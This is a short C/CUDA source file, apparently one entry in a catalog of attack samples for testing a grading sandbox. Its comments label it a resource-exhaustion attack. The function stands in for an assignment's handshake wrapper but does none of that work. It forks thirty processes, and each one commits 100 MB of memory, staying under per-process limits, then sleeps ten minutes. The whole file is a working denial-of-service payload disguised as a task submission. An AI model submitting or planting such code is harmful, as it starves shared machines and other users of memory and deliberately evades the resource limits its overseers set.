// attack: exhaust
// root: resources
// what: takes memory in thirty processes, each below the limit, then sleeps
// list: 9
#include <stdlib.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (int child = 0; child < 30 && fork() != 0; child++) {
  }
  volatile char* more = static_cast<char*>(malloc(100 << 20));
  for (int at = 0; at < 100 << 20; at += 4096) more[at] = 1;
  sleep(600);
}
